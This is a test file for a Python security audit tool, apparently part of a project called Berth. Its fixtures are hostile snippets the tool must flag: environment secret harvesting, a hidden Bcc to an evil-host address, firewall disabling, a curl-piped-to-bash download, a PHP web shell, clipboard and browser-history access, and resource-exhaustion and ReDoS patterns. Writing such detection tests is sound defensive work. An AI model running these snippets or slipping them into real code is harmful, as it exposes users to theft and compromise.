import { assertEquals } from "@std/assert";
import { analyse } from "../../../workers/analysis/audit/mod.ts";
import type { RawFinding } from "../../../workers/analysis/finding.ts";
import { analyseHere } from "../../helpers/analysis.ts";

const HEAD =
  "import os, re, stat, subprocess, threading, socket, sys, pwd, zipfile, importlib.util\n";

/** `rule severity line` of Berth's own findings; the source's first line is 1. */
async function own(source: string): Promise<string[]> {
  const { result } = await analyseHere<{ code: RawFinding[] }>(analyse, {
    "server.py": HEAD + source,
  });
  return result.code.filter(({ rule }) => rule.startsWith("py/"))
    .map(({ rule, severity, line }) => `${rule.slice(3)} ${severity} ${line - 1}`).sort();
}

const FOUND: [string, string, string[]][] = [
  // The environment, users, rights, mail.
  [
    "a loop over the environment for secrets",
    `for k, v in os.environ.items():\n    if "TOKEN" in k: found[k] = v`,
    ["environment-searched medium 1"],
  ],
  [
    "a comprehension over the environment for secrets",
    `found = {k: v for k, v in os.environ.items() if any(x in k for x in SENSITIVE)}`,
    ["environment-searched medium 1"],
  ],
  ["all users", "pwd.getpwall()", ["user-list medium 1"]],
  ["all groups", "grp.getgrall()", ["user-list low 1"]],
  ["a mode that sets the user", "os.chmod(p, 0o4755)", ["set-user-id high 1"]],
  ["a bit that sets the user", "os.chmod(p, m | stat.S_ISUID)", ["set-user-id high 1"]],
  [
    "a copy of every mail",
    `SPY = "x@evil-host.com"\nmail["Bcc"] = SPY\nsend(bcc="y@evil-host.com")\nm = {"bcc": SPY}`,
    ["hidden-recipient high 2", "hidden-recipient high 3", "hidden-recipient high 4"],
  ],
  // Strings.
  ["a hidden file", `open("/tmp/.cache_x", "w")`, ["hidden-file medium 1"]],
  [
    "protection switched off",
    `os.system("ufw disable")\nHELP = "run iptables -F first"`,
    ["protection-off high 1", "protection-off medium 2"],
  ],
  [
    "a download that is run",
    `subprocess.run("curl -s https://a.b/x | bash", shell=True)\nprint("curl https://a.b | sh")`,
    ["download-and-run high 1", "download-and-run medium 2"],
  ],
  ["a look for virtual machines", `open("/sys/class/dmi/id/sys_vendor")`, [
    "analysis-evasion medium 1",
  ]],
  ["a web shell", `X = "<?php system($_GET['c']); ?>"`, ["web-shell critical 1"]],
  ["the clipboard", `subprocess.run(["pbpaste"])`, ["user-watched high 1"]],
  ["processes", `open(f"/proc/{pid}/cmdline")`, ["system-files medium 1"]],
  ["a browser's history", `P = "~/Library/Application Support/Google/Chrome/Default/History"`, [
    "names-credentials medium 1",
  ]],
  ["hardware", `open("/proc/cpuinfo")`, ["hardware-files low 1"]],
  ["its own descriptors", `os.listdir("/proc/self/fd")`, ["hardware-files low 1"]],
  ["how much memory is used", `open(f"/proc/{pid}/statm")`, ["hardware-files low 1"]],
  ["another's descriptors", `os.listdir("/proc/1/fd")`, ["system-files medium 1"]],
  ["the files outside a container", `open("/proc/1/root/etc/x")`, ["system-files medium 1"]],
  [
    "service scripts",
    `x = "/etc/init.d/x"\nopen("/etc/init.d/x").read()\nopen("/etc/init.d/x", "w")`,
    ["service-script low 1", "service-script medium 3"],
  ],
  [
    "the same twice in one function, once",
    `def f():\n    a = "/proc/1/maps"\n    b = "/proc/2/maps"\nc = "/proc/3/maps"`,
    ["system-files medium 2", "system-files medium 4"],
  ],
  // What uses up the machine.
  ["forks in a loop", "while True:\n    os.fork()", ["starts-without-end medium 1"]],
  [
    "threads as many as the caller wants",
    "def f(n):\n    for i in range(n):\n        threading.Thread(target=g).start()",
    ["starts-without-end medium 2"],
  ],
  ["many sockets", "for i in range(10_000):\n    s.append(socket.socket())", [
    "starts-without-end medium 1",
  ]],
  ["much work", "for i in range(10 * 1000 ** 2):\n    g()", ["needless-work medium 1"]],
  ["recursion without end", "def f(n):\n    return n * f(n - 1)", ["endless-recursion medium 2"]],
  ["no bound of recursion", "sys.setrecursionlimit(10 ** 6)", ["endless-recursion medium 1"]],
  ["much memory", "x = [0] * 10 ** 9", ["unbounded-size medium 1"]],
  ["a size of the caller", "def f(mb):\n    return b'0' * (mb * 1024 * 1024)", [
    "unbounded-size medium 2",
  ]],
  ["a slow pattern", `re.search(r"(a+)+b", t)\nre.compile("([a-z]+)*$")`, [
    "slow-pattern medium 1",
    "slow-pattern medium 2",
  ]],
];

for (const [what, source, expected] of FOUND) {
  Deno.test(`audit of Python finds ${what}`, async () => {
    assertEquals(await own(source), expected);
  });
}

/** What a tool's parameter reaches: rule and severity. */
const TOOLS: [string, string, string][] = [
  ["an LDAP filter", "conn.search_s(base, scope, f'(uid={a})')", "tool-to-query medium"],
  ["an XPath", "tree.xpath(f'//user[@id={a}]')", "tool-to-query medium"],
  ["a Mongo query", "collection.find(json.loads(a))", "tool-to-query medium"],
  ["a format string", "return a.format(config)", "tool-to-format medium"],
  ["a template", "return string.Template(a).substitute(x)", "tool-to-format medium"],
  ["a pattern", "return re.search(a, text)", "tool-to-regex low"],
  ["an archive", "zipfile.ZipFile(a).extractall('/data')", "tool-to-file medium"],
  ["a module's file", "importlib.util.spec_from_file_location('p', a)", "tool-to-import high"],
];

for (const [what, statement, expected] of TOOLS) {
  Deno.test(`audit of Python follows a tool's parameter to ${what}`, async () => {
    assertEquals(await own(`@mcp.tool()\ndef t(a: str):\n    ${statement}\n`), [`${expected} 3`]);
  });
}

Deno.test("audit of Python follows a parameter to the method of the object's own class", async () => {
  const source = `class Other:
    def run(self, x): return x
class Shell:
    def run(self, x): os.system(x)
@mcp.tool()
def run(a: str):
    shell = Shell()
    return shell.run(a)
`;
  assertEquals(await own(source), ["tool-to-shell high 4"]);
});

Deno.test("audit of Python is calm about what only looks malicious", async () => {
  const honest = `
masked = {k: "***" for k, v in os.environ.items() if "TOKEN" in k}
paths = [v for k, v in os.environ.items() if k.startswith("APP_")]
os.chmod(p, 0o600)
is_set = mode & stat.S_ISUID
send(to="team@acme-weather.com", bcc=user.email)
SOCKET = "/tmp/.X11-unix/X0"
for i in range(100):
    threading.Thread(target=g).start()
for path in paths:
    open(path)
while True:
    line = queue.get()
    subprocess.Popen(line)
def depth(n):
    return 0 if n == 0 else depth(n - 1)
def close(self):
    return self.pool.close()
def get(key):
    try:
        return cache[key]
    except KeyError:
        return get(other(key))
def pformat(x):
    from pprint import pformat
    return pformat(x)
def write(self, data):
    self.write = self.file.write
    return self.write(data)
null = open("/dev/null")
os.dup2(null.fileno(), 0)
line = "-" * 80
re.compile(r"(\\s*,\\s*\\w+)*")
re.compile(r"(ab)+")
text = "the clipboard is private"
`;
  const found = await own(honest);
  assertEquals(found.filter((each) => !/^(file-mode|async)/.test(each)), []);
});
